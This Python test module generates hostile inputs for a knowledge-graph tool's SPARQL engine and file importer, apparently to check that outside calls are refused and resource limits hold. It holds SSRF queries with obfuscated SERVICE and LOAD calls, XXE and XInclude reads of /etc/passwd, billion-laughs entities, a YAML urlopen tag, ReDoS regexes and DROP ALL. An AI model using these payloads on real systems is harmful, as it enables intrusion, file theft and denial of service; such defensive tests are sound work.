"""The address of a listener -> queries, updates and files that want to call it; and queries that would never end."""

from collections.abc import Iterator, Mapping
from typing import NamedTuple


class Case(NamedTuple):
    """One hostile text: what it tries, where or how, and the text."""

    kind: str
    name: str
    text: str


POSITIONS: Mapping[str, str] = {
    "alone": "SELECT * { CALL }",
    "after triples": "SELECT * { ?s ?p ?o . CALL }",
    "between triples": "SELECT * { ?s ?p ?o CALL ?s ?q ?r }",
    "in a group": "SELECT * { ?s ?p ?o { { CALL } } }",
    "in OPTIONAL": "SELECT * { ?s ?p ?o OPTIONAL { CALL } }",
    "in UNION": "SELECT * { { ?s ?p ?o } UNION { CALL } }",
    "in MINUS": "SELECT * { ?s ?p ?o MINUS { ?s ?p ?o CALL } }",
    "in GRAPH": "SELECT * { GRAPH ?g { ?s ?p ?o CALL } }",
    "in FILTER EXISTS": "SELECT * { ?s ?p ?o FILTER EXISTS { CALL } }",
    "in FILTER NOT EXISTS": "SELECT * { ?s ?p ?o FILTER(!(NOT EXISTS { CALL })) }",
    "in BIND": "SELECT * { ?s ?p ?o BIND(EXISTS { CALL } AS ?x) }",
    "in an expression selected": "SELECT (EXISTS { CALL } AS ?x) { ?s ?p ?o }",
    "in a subquery": "SELECT * { { SELECT ?s { ?s ?p ?o CALL } LIMIT 3 } }",
    "in a subquery's subquery": "SELECT * { { SELECT * { { SELECT * { CALL } } } } }",
    "in HAVING": "SELECT ?s { ?s ?p ?o } GROUP BY ?s HAVING (EXISTS { CALL })",
    "in ORDER BY": "SELECT ?s { ?s ?p ?o } ORDER BY (EXISTS { CALL })",
    "in CONSTRUCT": "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o CALL }",
    "in ASK": "ASK { CALL }",
    "in DESCRIBE": "DESCRIBE ?s { ?s ?p ?o CALL }",
    "after VALUES": "SELECT * { VALUES ?x { 1 } CALL }",
    "after a truth value": "SELECT * { ?s ?p ?o OPTIONAL { ?s ?p trueCALL } }",
    "after a number": "SELECT * { ?s ?p ?o OPTIONAL { ?s ?p 1CALL } }",
}
"""Where a call may stand; every position is one the engine reads."""

SPELLINGS: Mapping[str, str] = {
    "plain": "SERVICE <ADDRESS> { ?s ?p ?o }",
    "lower case": "service <ADDRESS> { ?s ?p ?o }",
    "mixed case": "sErViCe silent <ADDRESS> { ?s ?p ?o }",
    "glued": "SERVICESILENT<ADDRESS>{?s ?p ?o}",
    "over lines": "SERVICE # { }\n\t<ADDRESS>\r\n{ ?s ?p ?o }",
    "an escape": "S\\u0045RVICE <ADDRESS> { ?s ?p ?o }",
    "long escapes": "\\U00000053\\U00000045RVICE <ADDRESS> { ?s ?p ?o }",
    "a variable": "VALUES ?where { <ADDRESS> } SERVICE ?where { ?s ?p ?o }",
}

GLUED = ("after a truth value", "after a number")

TRICKS: Mapping[str, str] = {
    "a prefixed name": "PREFIX e: <ADDRESS> SELECT * { SERVICE e:x { ?s ?p ?o } }",
    "a relative address": "BASE <ADDRESS> SELECT * { SERVICE <x> { ?s ?p ?o } }",
    "glued to a prefix": "PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o SERVICEe:x { } }",
    "glued to a truth value and a prefix": (
        "PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o OPTIONAL { ?s ?p trueSERVICEe:x { } } }"
    ),
    "a name that makes no address": (
        "PREFIX a: <http://a:9> PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o OPTIONAL { ?s ?p a:SERVICEe:x { } } }"
    ),
    "a type that makes no address": (
        "PREFIX a: <http://a:9> PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o OPTIONAL { ?s ?p ''^^a:SERVICEe:x { } } }"
    ),
    "the second dot of a name": "PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o OPTIONAL { ?s ?p e:a.b.SERVICEe:x { } } }",
    "a comparison that looks like an address": (
        "PREFIX e: <ADDRESS> SELECT * { ?s ?p ?o FILTER(?o<e:x#>'''\n) SERVICE <ADDRESS> { } #'''\n }"
    ),
    "a comment that looks like an address": 'SELECT * { ?s ?p ?o FILTER(?o<?s#>"""\n) SERVICE <ADDRESS> { } #"""\n }',
    "half an escape in a comment": "SELECT * { ?s ?p ?o # \\u+00A SERVICE <ADDRESS> { }\n }",
    "half an escape in a string": "SELECT * { ?s ?p ?o FILTER(?o != '\\\\u+027) SERVICE <ADDRESS> { } #') }",
    "behind a query": "SELECT * { ?s ?p ?o } ; SELECT * { SERVICE <ADDRESS> { } }",
    "a string that is none": "SELECT * { ?s ?p ?o OPTIONAL { ?s ?p '\\\\' SERVICE <ADDRESS> { } } #' }",
    "localhost": "SELECT * { SERVICE <http://localhost:PORT/> { ?s ?p ?o } }",
    "the sixth version of the address": "SELECT * { SERVICE <http://[::ffff:127.0.0.1]:PORT/> { ?s ?p ?o } }",
    "the address as a number": "SELECT * { SERVICE <http://2130706433:PORT/> { ?s ?p ?o } }",
    "FROM": "SELECT * FROM <ADDRESS> { ?s ?p ?o }",
    "FROM NAMED": "SELECT * FROM NAMED <ADDRESS> { GRAPH ?g { ?s ?p ?o } }",
    "FROM by a prefix": "PREFIX e: <ADDRESS> SELECT * FROM e:x { ?s ?p ?o }",
    "FROM a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "GRAPH": "SELECT * { GRAPH <ADDRESS> { ?s ?p ?o } }",
    "a function's address": "SELECT (<ADDRESS>(1) AS ?x) { FILTER(<ADDRESS>(?x)) }",
    "an address made": "SELECT (IRI(CONCAT('http://127.0.0.1:', 'PORT')) AS ?x) { }",
    "DESCRIBE an address": "DESCRIBE <ADDRESS>",
}
"""Queries that hide the call, or want to call by other means. The last four ask for nothing that is to be refused."""

HARMLESS = frozenset(("GRAPH", "a function's address", "an address made", "DESCRIBE an address"))

UPDATES: Mapping[str, str] = {
    "LOAD": "LOAD <ADDRESS>",
    "LOAD SILENT INTO": "load silent <ADDRESS> INTO GRAPH <u:g>",
    "LOAD glued": "LOADSILENT<ADDRESS>",
    "LOAD behind an escape": "L\\u004FAD <ADDRESS>",
    "LOAD by a prefix": "PREFIX LOADe: <u:x> PREFIX e: <ADDRESS>LOADe:x",
    "LOAD behind another": "INSERT DATA { <u:a> <u:b> <u:c> } ; LOAD <ADDRESS>",
    "LOAD a file": "LOAD <file:///etc/passwd>",
    "SERVICE in INSERT": "INSERT { ?s ?p ?o } WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
    "SERVICE in DELETE": "DELETE WHERE { ?s ?p ?o } ; DELETE { ?s ?p ?o } WHERE { SERVICE <ADDRESS> { ?s ?p ?o } }",
}

WRITES: Mapping[str, str] = {
    "INSERT DATA": "INSERT DATA { <u:a> <u:b> <u:c> }",
    "DELETE WHERE": "DELETE WHERE { ?s ?p ?o }",
    "DROP ALL": "DROP ALL",
    "CLEAR": "CLEAR SILENT DEFAULT",
    "COPY": "COPY <u:a> TO <u:b>",
}

TRIPLES = " . ".join(f"?a{n} ?b{n} ?c{n}" for n in range(8))


def heavy() -> Iterator[Case]:
    """Queries that are to end with a clear error, or an answer, within their limits."""
    yield Case("large", "5 MB of spaces", "ASK {" + " " * 5_000_000 + "}")
    yield Case("large", "5 MB of one string", "SELECT ('" + "x" * 5_000_000 + "' AS ?x) {}")
    yield Case("large", "5 MB of values", "SELECT * { VALUES ?x { " + "1 " * 2_500_000 + "} }")
    yield Case("large", "5 MB of escapes", "SELECT ('" + "\\u0041" * 800_000 + "' AS ?x) {}")
    yield Case("large", "just short enough, values", "SELECT * { VALUES ?x { " + "1 " * 49_980 + "} }")
    yield Case("large", "just short enough, triples", "SELECT * { " + "?s ?p ?o . " * 9_000 + "}")
    yield Case("large", "just short enough, IN", "SELECT * { ?s ?p ?o FILTER(?o IN (" + "1," * 49_900 + "1)) }")
    yield Case("large", "just short enough, UNION", "SELECT * { {}" + "UNION{}" * 14_000 + "}")
    yield Case("large", "just short enough, OPTIONAL", "SELECT * { ?s ?p ?o " + "OPTIONAL{?s ?p ?o}" * 5_000 + "}")
    for name, opening, closing in (("groups", "{", "}"), ("brackets", "(", ")"), ("nodes", "[ ?p ", "]")):
        head, tail = ("SELECT * { FILTER", "}") if opening == "(" else ("SELECT * { ", "}")
        for deep in (90, 1_000, 20_000):
            middle = "1" if opening == "(" else "?o"
            middle = "" if opening == "{" else middle
            yield Case("deep", f"{deep:,} {name}", head + opening * deep + middle + closing * deep + tail)
    for name, sign in (("negations", "!"), ("minus signs", "- "), ("inverse steps", "^")):
        yield Case("deep", f"50,000 {name}", "SELECT * { ?s ?p ?o FILTER(" + sign * 50_000 + "?o) }")
    yield Case("deep", "90 subqueries", "SELECT * { " + "{ SELECT * { " * 45 + "?s ?p ?o" + " } }" * 45 + " }")
    yield Case("deep", "a sum of 40,000", "SELECT (" + "1+" * 40_000 + "1 AS ?x) {}")
    yield Case("deep", "a path of 20,000 steps", "SELECT * { ?s " + "!a/" * 20_000 + "!a ?o }")
    yield Case("deep", "a path of stars in stars", "SELECT * { ?s " + "(" * 80 + "!a" + "*)" * 80 + " ?o }")
    text = "'" + "a" * 5_000 + "!'"
    yield Case("regex", "(a+)+$", f"SELECT (REGEX({text}, '^(a+)+$') AS ?x) {{ ?s ?p ?o . ?a ?b ?c }}")
    yield Case("regex", "(a|a)*b", f"SELECT (REGEX({text}, '(a|aa|a*)*b') AS ?x) {{ ?s ?p ?o . ?a ?b ?c }}")
    yield Case("regex", "counted", f"SELECT (REGEX({text}, '((a{{1,100}}){{1,100}}){{1,100}}b') AS ?x) {{}}")
    yield Case("regex", "replace", f"SELECT (STRLEN(REPLACE({text}, '(a*)*', 'b$1b')) AS ?x) {{ ?s ?p ?o . ?a ?b ?c }}")
    yield Case("product", "counted", f"SELECT (COUNT(*) AS ?n) {{ {TRIPLES} }}")
    yield Case("product", "whole", f"SELECT * {{ {TRIPLES} }}")
    yield Case("product", "sorted", f"SELECT * {{ {TRIPLES} }} ORDER BY ?a0 ?a1 ?a2")
    yield Case("product", "distinct", f"SELECT DISTINCT * {{ {TRIPLES} }}")
    yield Case("product", "grouped", f"SELECT ?a0 ?a1 ?a2 (COUNT(*) AS ?n) {{ {TRIPLES} }} GROUP BY ?a0 ?a1 ?a2")
    yield Case("product", "constructed", f"CONSTRUCT {{ ?a0 ?b1 ?c2 }} WHERE {{ {TRIPLES} }}")
    yield Case("product", "none found", f"SELECT * {{ {TRIPLES} FILTER(?a0 = 1) }}")
    yield Case("path", "all to all", "SELECT (COUNT(*) AS ?n) { ?a (!a|^!a)* ?b . ?b (!a|^!a)* ?c . ?c (!a|^!a)+ ?d }")
    doubled = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(60))
    yield Case("bomb", "CONCAT", f"SELECT (STRLEN(?x60) AS ?n) {{ BIND('0123456789' AS ?x0) {doubled} }}")
    replaced = " ".join(f"BIND(REPLACE(?x{n}, 'a', 'aaaaaaaaaa') AS ?x{n + 1})" for n in range(20))
    yield Case("bomb", "REPLACE", f"SELECT (STRLEN(?x20) AS ?n) {{ BIND('a' AS ?x0) {replaced} }}")
    yield Case("bomb", "GROUP_CONCAT", f"SELECT (GROUP_CONCAT(STR(?a0)) AS ?x) {{ {TRIPLES} }}")
    yield Case(
        "bomb", "a large cell in every row", "SELECT ?x { BIND('" + "y" * 90_000 + "' AS ?x) ?s ?p ?o . ?a ?b ?c }"
    )


def calls(address: str) -> Iterator[Case]:
    """Queries that call the address, each in a position and a spelling; then those that hide it."""
    for position, frame in POSITIONS.items():
        for spelling, call in SPELLINGS.items():
            if not (position in GLUED and spelling == "a variable"):
                yield Case("SERVICE", f"{position}, {spelling}", filled(frame.replace("CALL", call), address))
    for name, text in TRICKS.items():
        yield Case("other means" if name in HARMLESS else "tricks", name, filled(text, address))


def updates(address: str) -> Iterator[Case]:
    """Updates that call the address, and those that only write."""
    for name, text in UPDATES.items():
        yield Case("LOAD", name, filled(text, address))
    for name, text in WRITES.items():
        yield Case("write", name, text)


def filled(text: str, address: str) -> str:
    """The text with the address in it; it ends in a slash and has a port."""
    return text.replace("ADDRESS", address).replace("PORT", address.rstrip("/").rpartition(":")[2])


BODY = "<p>Keo Remy said the detention of Ada Fenwick was lawful.</p>" * 3

ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))

FILES: Mapping[str, str] = {
    "dtd.html": ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "ADDRESSx.dtd"><html><body>BODY</body></html>'),
    "entity.xhtml": (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "ADDRESSx"><!ENTITY f SYSTEM "file:///etc/passwd">'
        "<!ENTITY % p SYSTEM 'ADDRESSp'> %p; ]><html><body><p>&x; &f;</p>BODY</body></html>"
    ),
    "laughs.xhtml": (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e0 "ha">{ENTITIES}]><html><body><p>&e11;</p>BODY</body></html>'
    ),
    "include.xhtml": (
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude"><body>'
        '<xi:include href="ADDRESSx"/><xi:include href="file:///etc/passwd" parse="text"/>BODY</body></html>'
    ),
    "style.xhtml": (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="ADDRESSx.xsl"?><html><body>BODY</body></html>'
    ),
    "context.html": (
        '<html><head><base href="ADDRESS"><script type="application/ld+json">{"@context": "ADDRESScontext.jsonld", '
        '"@type": "NewsArticle", "@id": "ADDRESSa", "headline": "Talks", "@import": "ADDRESSi"}</script></head>'
        "<body>BODY</body></html>"
    ),
    "parts.html": (
        '<html><head><meta http-equiv="refresh" content="0; url=ADDRESSr"><link rel="stylesheet" href="ADDRESSs.css">'
        '<link rel="amphtml" href="ADDRESSamp"><link rel="alternate" type="application/rss+xml" href="ADDRESSfeed">'
        '<link rel="canonical" href="ADDRESSc"><script src="ADDRESSs.js"></script></head><body>'
        '<img src="ADDRESSi.png" srcset="ADDRESS2x.png 2x"><iframe src="ADDRESSf"></iframe>'
        '<object data="ADDRESSo"></object><embed src="ADDRESSe"><video src="ADDRESSv"></video>BODY</body></html>'
    ),
    "feed.xml": (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "ADDRESSx">]><rss version="2.0"><channel><item>'
        "<link>ADDRESSitem</link><description>&x;</description></item></channel></rss>"
    ),
    "graph.rdf": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "ADDRESSx">]><r>&x;</r>',
    "context.jsonld": '{"@context": "ADDRESScontext", "@id": "ADDRESSa", "text": "Keo Remy said so."}',
    "links.md": (
        "---\nurl: ADDRESSm\nimage: ADDRESSi.png\n---\n# Talks\n\n![x](ADDRESSi.png) [y]: ADDRESSy\n"
        '<img src="ADDRESSz">\n\nKeo Remy said the detention of Ada Fenwick was lawful.\n'
    ),
    "records.jsonl": (
        '{"url": "ADDRESSr", "title": "Talks", "text": "Keo Remy said the detention was lawful.", '
        '"html": "ADDRESSh", "@context": "ADDRESScontext"}\n'
    ),
    "tag.md": "---\nx: !!python/object/apply:urllib.request.urlopen ['ADDRESS']\n---\nKeo Remy said so.\n",
    "plain.txt": "See ADDRESSx and file:///etc/passwd.\n\nKeo Remy said the detention of Ada Fenwick was lawful.\n",
    "deep.html": "<html><body>" + "<div>" * 50_000 + "BODY",
}
"""Files for ``kg build`` that want to be completed from elsewhere, or to grow without end."""


def files(address: str) -> Iterator[tuple[str, bytes]]:
    """Names and bytes of the files."""
    for name, text in FILES.items():
        yield name, filled(text, address).replace("BODY", BODY).encode()
